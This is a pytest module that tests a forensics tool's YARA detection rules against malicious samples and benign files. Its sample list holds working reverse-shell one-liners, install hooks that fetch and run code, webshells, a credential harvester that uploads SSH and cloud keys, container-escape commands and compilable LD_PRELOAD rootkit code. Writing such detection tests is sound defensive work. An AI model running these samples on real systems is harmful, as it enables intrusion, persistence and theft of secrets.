"""The shipped YARA rules: each has something that it must match, and ordinary files that none may match."""

# ruff: noqa: E501, ISC004 - samples stand as they are
from __future__ import annotations

import base64
import re
import shutil
import subprocess
from pathlib import Path

import pytest
import yara

from forensics.model import Severity
from forensics.resources import find_rules_dir
from forensics.scanning import EXTERNALS

RULE_FILES = sorted(find_rules_dir().glob("*.yar"))
WALLET = "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"
ELF_HEAD = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00\x3e\x00" + bytes(44)


@pytest.fixture(scope="module")
def compiled() -> yara.Rules:
    return yara.compile(
        filepaths={path.name: str(path) for path in RULE_FILES}, externals=dict(EXTERNALS), includes=False
    )


def match(compiled: yara.Rules, data: bytes) -> set[str]:
    return {found.rule for found in compiled.match(data=data, timeout=30)}


SHADOW = b"root:$y$j9T$abc/def.ghi$xyz:19000:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\n"
POSITIVES: list[tuple[str, bytes]] = [
    ("password_hashes_copied", b"etc/shadow".ljust(512, b"\0") + SHADOW.ljust(512, b"\0")),
    ("install_hook_fetches_code", b'{"scripts": {"postinstall": "curl -fsSL http://cdn.invalid/i.sh | sh"}}'),
    ("install_hook_fetches_code", b'{"scripts": {"preinstall": "wget -q http://192.0.2.1/x -O x && chmod +x x && ./x"}}'),
    ("install_hook_fetches_code", b'{"scripts": {"install": "echo aWQ= | base64 -d | bash"}}'),
    ("install_hook_fetches_code", b"{\"scripts\": {\"preinstall\": \"node -e \\\"require('child_process').exec('id')\\\"\"}}"),
    ("webshell_php_request_to_execution", b"<?php system($_GET['c']); ?>"),
    ("webshell_php_request_to_execution", b"<?php @eval(base64_decode($_POST['q'])); ?>"),
    ("webshell_php_request_to_execution", b"<?= `$_REQUEST[0]` ?>"),
    ("webshell_php_request_to_execution", b"<?php $_GET['a']($_POST['b']);"),
    ("webshell_php_request_to_execution", b"<?php include($_GET['p']); ?>"),
    ("webshell_php_request_to_execution", b"<?php assert(file_get_contents('php://input'));"),
    ("webshell_php_request_to_execution", b"<?php array_map($_POST['f'], array($_POST['x']));"),
    ("webshell_php_indirect", b"<?php $c = $_REQUEST['cmd']; echo shell_exec($c); ?>"),
    ("webshell_php_indirect", b"<?php $f = 'sys'.'tem'; $f($_GET['x']); ?>"),
    ("webshell_php_decoded_code", b"<?php eval(gzinflate(base64_decode('S0ktLgEA'))); ?>"),
    ("webshell_jsp_request_to_execution", b'<% Runtime.getRuntime().exec(request.getParameter("c")); %>'),
    ("webshell_aspx_request_to_execution", b'<%@ Page Language="JScript"%><%eval(Request.Item["z"],"unsafe");%>'),
    ("webshell_script_cgi", b'#!/bin/sh\necho Content-type: text/plain\necho\neval "$QUERY_STRING"\n'),
    ("webshell_framework_route_to_execution", b"@app.route('/x')\ndef x(): return os.popen(request.args.get('c')).read()"),
    ("webshell_framework_route_to_execution", b"const {exec}=require('child_process');app.get('/',(req,res)=>exec(req.query.c))"),
    ("miner_configuration", b'{"algo":"rx/0","pools":[{"url":"pool.example:3333","user":"' + WALLET.encode() + b'"}]}'),
    ("miner_configuration", b'[cfg]\nurl = pool.example:4444\nalgorithm = kawpow\nuser = ' + WALLET.encode() + b"\n"),
    ("miner_stratum_address", b"exec ./d -o stratum+ssl://pool.example:443 -u x"),
    ("miner_protocol_client", b"\x7fELF mining.subscribe mining.authorize mining.submit"),
    ("miner_protocol_client", b"stratum+tcp randomx donate-level"),
    ("miner_browser", b"var m=new CoinHive.Anonymous('abcdefghijklmnop0123',{throttle:0.3});"),
    ("reverse_shell_script", b"#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n"),
    ("reverse_shell_script", b"mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 99 >/tmp/f\n"),
    (
        "reverse_shell_script",
        b"import socket,os,subprocess\ns=socket.socket();s.connect(('192.0.2.1',1))\n"
        b"os.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])",
    ),
    (
        "reverse_shell_script",
        b"import socket,subprocess\ns=socket.socket()\ns.connect(('192.0.2.1',1))\nwhile 1:\n c=s.recv(99)\n"
        b" s.send(subprocess.check_output(c,shell=True))\n",
    ),
    ("reverse_shell_script", b"perl -e 'use Socket;connect(S,$a);open(STDIN,\">&S\");exec(\"/bin/sh -i\");'"),
    ("reverse_shell_script", b"<?php $s=fsockopen('192.0.2.1',1);proc_open('sh',$d,$p);"),
    ("reverse_shell_elf", ELF_HEAD + b"\0socket\0connect\0dup2\0execve\0/bin/sh\0htons\0inet_addr\0"),
    ("shellcode_elf_loader", ELF_HEAD + bytes.fromhex("6a29589990906a2a580f05") + b"\x6a\x29\x58\x6a\x02\x5f"),
    (
        "dropper_script",
        b"cd /tmp || cd /var/run\nwget http://192.0.2.1/a -O /tmp/a; chmod 777 /tmp/a; nohup /tmp/a &\npkill -f xmrig\n",
    ),
    ("dropper_script", b"cd /tmp || cd /run\nfor a in x86 mips armv7l; do wget http://x/$a; done\n"),
    ("encoded_command", b"#!/bin/sh\necho aGVsbG8= | base64 -d | sh\n"),
    ("encoded_command", b"exec(__import__('base64').b64decode('cHJpbnQoMSk='))"),
    (
        "rootkit_preload_source",
        b'f=dlsym(RTLD_NEXT,"readdir");\nstruct dirent *readdir(DIR *d){ if(strcmp(e->d_name,H)) return e;}',
    ),
    ("rootkit_kernel_module", b"\x7fELF\0vermagic=6.1\0kallsyms_lookup_name\0sys_call_table\0hook_getdents64\0"),
    ("credential_hook", b"\x7fELF\0pam_sm_authenticate\0pam_get_authtok\0fprintf\0/tmp/.pw\0%s:%s\n\0"),
    ("escape_cgroup_release_agent", b"mount -t cgroup -o rdma c /tmp/c\necho 1 > /tmp/c/x/notify_on_release\necho $p > /tmp/c/release_agent\n"),
    ("escape_kernel_helper", b"#!/bin/sh\necho '|/tmp/x %P' > /proc/sys/kernel/core_pattern\n"),
    ("escape_kernel_helper_program", b"\x7fELF\0/proc/sys/kernel/core_pattern\0upperdir=\0/proc/self/mounts\0|%s/x\0"),
    (
        "escape_engine_socket_api",
        b'curl --unix-socket /var/run/docker.sock -d \'{"Image":"a","Binds":["/:/mnt"]}\' http://d/containers/create\n',
    ),
    ("escape_engine_socket_api", b"docker -H unix:///run/docker.sock run -v /:/host alpine chroot /host sh\n"),
    ("escape_host_process_access", b"nsenter --target 1 --mount --pid -- bash\n"),
    ("escape_host_process_access", b"fdisk -l; mkdir /mnt/h; mount /dev/sda1 /mnt/h; echo x >> /mnt/h/etc/crontab\n"),
    ("escape_runtime_overwrite", b"#!/proc/self/exe\n"),
    (
        "cluster_credential_use",
        b"T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\n"
        b'curl -k -H "Authorization: Bearer $T" https://kubernetes.default/api/v1/namespaces/kube-system/secrets\n',
    ),
    (
        "ransom_note",
        b"All your files have been encrypted. To recover your files pay 0.5 BTC to this bitcoin wallet within 72 hours.",
    ),
    ("ransom_note", b"Your databases were downloaded. Send 0.01 BTC to address X to restore your data, or we leak it."),
    (
        "file_encryptor_script",
        b'find /srv -type f | while read f; do openssl enc -aes-256-cbc -in "$f" -out "$f.locked" -k $K; rm "$f"; done\n',
    ),
    (
        "file_encryptor_script",
        b"from cryptography.fernet import Fernet\nk=Fernet(key)\nfor r,d,f in os.walk('/data'):\n"
        b"  open(p + '.enc','wb').write(k.encrypt(b)); os.remove(p)\n",
    ),
    (
        "credential_harvester",
        b"tar czf /tmp/o.tgz ~/.aws/credentials ~/.kube/config ~/.docker/config.json ~/.ssh/id_rsa\ncurl -F f=@/tmp/o.tgz http://x/\n",
    ),
    ("cloud_metadata_theft", b"curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/\n"),
    ("packed_elf", b"\x7fELF" + bytes(200) + b"UPX!" + bytes(100) + b"$Id: UPX 4.0 "),
    (
        "webshell_framework_variable_to_execution",
        b"@app.route('/h')\ndef h():\n    c = request.args.get('c')\n    return subprocess.getoutput(c)\n",
    ),
    (
        "webshell_framework_variable_to_execution",
        b"const cp=require('child_process');app.post('/d',(req,res)=>{const c=req.body.c;\ncp.exec(c,(e,o)=>res.send(o))})",
    ),
    ("tunnel_configuration", b'serverAddr = "192.0.2.1"\nserverPort = 7000\n[[proxies]]\nremotePort = 6022\n'),
    ("tunnel_configuration", b"version: 2\nauthtoken: 2abcdef\ntunnels:\n  s:\n    proto: tcp\n    addr: 22\n"),
    ("tunnel_configuration", b"tunnel: 6ff42ae2-765d\ncredentials-file: /root/.cloudflared/a.json\ningress:\n"),
    ("tunnel_program", ELF_HEAD + b"\0github.com/jpillora/chisel/client\0"),
    ("scanner_worm", b"masscan 10.0.0.0/8 -p2375 --rate 5000\n"),
    ("scanner_worm", b"for h in $(cat ~/.ssh/known_hosts | cut -d' ' -f1); do ssh -o BatchMode=yes -o StrictHostKeyChecking=no $h 'curl x|sh'; done\n"),
    ("backdoor_account_script", b"echo 'ssh-rsa AAAA x' >> /root/.ssh/authorized_keys\n(crontab -l; echo x) | crontab -\n"),
]  # fmt: skip


@pytest.mark.parametrize(("rule", "data"), POSITIVES, ids=[f"{n}-{rule}" for n, (rule, _) in enumerate(POSITIVES)])
def test_rule_matches_what_it_is_for(compiled: yara.Rules, rule: str, data: bytes) -> None:
    assert rule in match(compiled, data)


PRELOAD_SOURCE = """
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdio.h>
#include <string.h>
{body}
"""
HIDES_FILES = """
struct dirent *readdir(DIR *d) {
  static struct dirent *(*real)(DIR *);
  if (!real) real = dlsym(RTLD_NEXT, "readdir");
  struct dirent *e;
  while ((e = real(d)) && strstr(e->d_name, "zz")) {}
  return e;
}
"""
HIDES_SOCKETS = """
FILE *fopen(const char *p, const char *m) {
  static FILE *(*real)(const char *, const char *);
  if (!real) real = dlsym(RTLD_NEXT, "fopen");
  if (strstr(p, "/proc/net/tcp")) return tmpfile();
  return real(p, m);
}
"""
COUNTS_CALLS = """
#include <stdlib.h>
static int count;
void *malloc(size_t n) { static void *(*real)(size_t); if (!real) real = dlsym(RTLD_NEXT, "malloc"); count++; return real(n); }
"""


@pytest.mark.skipif(shutil.which("gcc") is None, reason="needs a C compiler to make the library")
@pytest.mark.parametrize(
    ("body", "expected"),
    [(HIDES_FILES, {"rootkit_preload_library"}), (HIDES_SOCKETS, {"rootkit_preload_hider"}), (COUNTS_CALLS, set())],
)
def test_preloaded_libraries(compiled: yara.Rules, tmp_path: Path, body: str, expected: set[str]) -> None:
    source, library = tmp_path / "x.c", tmp_path / "x.so"
    source.write_text(PRELOAD_SOURCE.replace("{body}", body))
    subprocess.run(["gcc", "-shared", "-fPIC", "-s", "-o", library, source, "-ldl"], check=True)
    assert match(compiled, library.read_bytes()) & {"rootkit_preload_library", "rootkit_preload_hider"} == expected


@pytest.mark.parametrize(
    ("path", "found"),
    [
        ("dev/shm/.s", True),
        ("etc/shadow", False),
        ("etc/shadow-", False),
        ("var/backups/shadow.bak", False),
        ("var/www/html/x", True),
        ("", False),
    ],
)
def test_the_password_file_is_only_reported_elsewhere(compiled: yara.Rules, path: str, found: bool) -> None:
    matched = {match.rule for match in compiled.match(data=SHADOW, externals={"filepath": path}, timeout=30)}
    assert ("password_hashes_copied" in matched) is found


def test_every_rule_has_a_positive_and_says_what_it_is() -> None:
    declared: list[str] = []
    for path in RULE_FILES:
        for found in re.finditer(r"^rule (\w+).*?^}", path.read_text(), re.DOTALL | re.MULTILINE):
            declared.append(found.group(1))
            meta = dict(re.findall(r'^\s+(\w+) = "([^"]*)"$', found.group().partition("strings:")[0], re.MULTILINE))
            assert {"title", "severity", "confidence", "attack", "why", "benign", "author", "license"} <= set(meta), (
                path
            )
            Severity(meta["severity"])
            assert all(re.fullmatch(r"T\d{4}(\.\d{3})?", part) for part in meta["attack"].split(", "))
    tested = {rule for rule, _ in POSITIVES} | {"rootkit_preload_library", "rootkit_preload_hider"}
    assert set(declared) == tested
    assert len(declared) == len(set(declared))


NEGATIVES: list[bytes] = [
    b"<?php echo htmlspecialchars($_GET['name'] ?? ''); include __DIR__ . '/x.php'; ?>",
    b"<?php $id = (int) $_GET['id']; $rows = $db->exec($sql); curl_exec($ch); ?>",
    b"<?php $data = json_decode(file_get_contents('php://input')); $tool = escapeshellarg($x); ?>",
    b'{"database":{"host":"db.example:5432","user":"app","pool":10}}',
    b"server { listen 80; location / { proxy_pass http://app:8000; } }",
    b"#!/bin/sh\nset -e\napt-get update\ncurl -fsSL https://example.org/x.tgz -o /tmp/x.tgz\ntar xf /tmp/x.tgz -C /opt\nrm /tmp/x.tgz\n",
    b"#!/bin/sh\nuntil nc -z db 5432; do sleep 1; done\nexec gunicorn app:app\n",
    b"import socket\ns = socket.create_connection(('db', 5432))\ns.sendall(b'x')\nprint(s.recv(10))\n",
    b"import subprocess\nsubprocess.run(['git', 'status'], check=True)\n",
    b"Backups are encrypted with the key of the department. To restore your data, write to it@example.org within 5 days.",
    b"#!/bin/sh\nfor f in /backup/*.sql; do gpg --symmetric $f; done\n",
    b"const name = req.query.name;\nconst rows = await db.query('select 1 where n = $1', [name]);\nres.json(rows)\n",
    b"name = request.args.get('name')\nrows = db.execute('select * from t where n = ?', (name,))\nreturn jsonify(rows)\n",
    b"[server]\naddress = 0.0.0.0\nport = 8080\n[client]\ntimeout = 5\n",
    b"pool:\n  url: db.example:5432\n  user: app\n",
    b"Host *\n  StrictHostKeyChecking ask\n",
    b"aws s3 cp s3://bucket/app.tgz /opt/\nexport AWS_PROFILE=app\n",
    b"mount -t proc proc /proc\nmount -t cgroup2 none /sys/fs/cgroup\n",
    b"sysctl kernel.core_pattern\ncat /proc/sys/kernel/core_pattern\n",
    b"docker compose up -d\ndocker run --rm -p 80:80 nginx\n",
    b"volumes:\n  - /var/run/docker.sock:/var/run/docker.sock:ro\n",
    base64.b64encode(bytes(range(256)) * 20),
    b"base64 -d key.b64 > key.bin\necho $PASSWORD | base64\n",
    b"\x7fELF" + bytes(400) + b"socket\0connect\0execve\0" + bytes(100_000),
]


@pytest.mark.parametrize("data", NEGATIVES, ids=range(len(NEGATIVES)))
def test_ordinary_content_is_left_alone(compiled: yara.Rules, data: bytes) -> None:
    assert match(compiled, data) == set()


def test_this_systems_programs_and_scripts_are_left_alone(compiled: yara.Rules) -> None:
    files = [
        path
        for folder in ("/usr/bin", "/usr/sbin", "/etc/init.d", "/etc/profile.d", "/usr/lib/x86_64-linux-gnu/security")
        for path in (Path(folder).glob("*") if Path(folder).is_dir() else ())
        if path.is_file() and not path.is_symlink() and path.stat().st_size < 300_000
    ]
    assert {(path, rule) for path in files for rule in match(compiled, path.read_bytes())} == set()
